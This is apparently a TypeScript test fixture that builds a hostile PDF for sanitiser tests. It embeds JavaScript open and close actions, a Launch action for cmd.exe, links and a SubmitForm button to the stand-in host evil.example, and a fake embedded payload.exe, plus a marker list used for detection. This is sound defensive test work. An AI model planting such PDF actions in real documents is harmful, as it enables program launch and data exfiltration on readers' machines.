/**
 * A PDF built the way a hostile sender would: scripts that run when the document or a page opens,
 * a link that launches a program, a URI link, a form button that submits data, a field with a
 * keystroke script, an embedded file and a file-attachment annotation. Its printed content is one
 * line of text, so tests can check that stripping keeps what the page shows.
 */
import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts, rgb, type PDFRef } from '@cantoo/pdf-lib';

export const HOSTILE_PAGE_TEXT = 'SIGNED CERTIFICATE COPY';
/** Strings that must not survive into a packet (pdfinfo -js or a raw object read would show them). */
export const HOSTILE_MARKERS = ['app.alert', 'app.launchURL', 'cmd.exe', 'evil.example', 'payload.exe'];

export async function makeHostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595.28, 841.89]);
  page.drawText(HOSTILE_PAGE_TEXT, { x: 72, y: 700, size: 24, font, color: rgb(0, 0, 0) });
  const ctx = doc.context;
  const js = (code: string) => ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });

  // Document level: OpenAction, document actions, the JavaScript and EmbeddedFiles name trees.
  const fileStream = ctx.flateStream('MZ fake payload', { Type: 'EmbeddedFile' });
  const fileSpec = ctx.register(
    ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: ctx.register(fileStream) } }),
  );
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js("app.alert('document open')")));
  doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: ctx.register(js("app.alert('will close')")) }));
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      JavaScript: ctx.obj({ Names: [PDFString.of('init'), ctx.register(js("app.alert('names')"))] }),
      EmbeddedFiles: ctx.obj({ Names: [PDFString.of('payload.exe'), fileSpec] }),
    }),
  );

  // Page level: a script when the page opens.
  page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.register(js("app.alert('page open')")) }));

  const rect = (y: number) => [72, y, 300, y + 20];
  const annots: PDFRef[] = [
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: rect(600),
        Border: [0, 0, 0],
        A: js("app.launchURL('http://evil.example/', true)"),
      }),
    ),
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: rect(560),
        A: { S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe') } },
      }),
    ),
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: rect(520),
        A: { S: 'URI', URI: PDFString.of('http://evil.example/track') },
      }),
    ),
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: rect(480),
        FS: fileSpec,
        Contents: PDFString.of('payload.exe'),
      }),
    ),
  ];
  // A form: a push button that submits, and a text field whose keystroke script lives on its parent field.
  const submit = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Btn',
      Ff: 65536,
      T: PDFString.of('send'),
      Rect: rect(440),
      A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://evil.example/collect') } },
    }),
  );
  const field = ctx.register(
    ctx.obj({
      FT: 'Tx',
      T: PDFString.of('name'),
      AA: { K: ctx.register(js("app.alert('keystroke')")) },
    }),
  );
  const widget = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Widget', Parent: field, Rect: rect(400) }));
  ctx.lookup(field, PDFDict).set(PDFName.of('Kids'), ctx.obj([widget]));
  annots.push(submit, widget);
  page.node.set(PDFName.of('Annots'), ctx.obj(annots));
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [submit, field] }));
  return doc.save({ useObjectStreams: false });
}
